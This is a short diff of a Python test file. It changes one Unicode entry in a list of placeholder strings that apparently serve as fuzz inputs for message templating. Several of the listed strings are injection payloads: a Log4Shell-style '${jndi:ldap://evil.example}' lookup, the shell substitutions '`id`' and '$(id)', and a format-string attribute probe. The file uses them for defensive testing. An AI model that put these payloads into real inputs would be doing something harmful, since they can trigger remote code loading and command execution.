@@ -67,7 +67,7 @@ def test_an_idempotency_key_is_the_accounts_own(service, key):
 PLACEHOLDERS = [
     "$code", "${code}", "$$code", "$", "$$", "${", "${}", "$0", "$code $code", "$display_name", "${display_name}", "$validity_minutes", "%s", "%(code)s",
     "{code}", "{0}", "{}", "{0.__class__}", "{{code}}", "{% raw %}", "<%= code %>", "#{code}", "\\1", "\\g<0>", "${jndi:ldap://evil.example}", "`id`",
-    "$(id)", "\u200e", "e\u0301",
+    "$(id)", "a\u200e", "e\u0301",
 ]  # fmt: skip
 
 
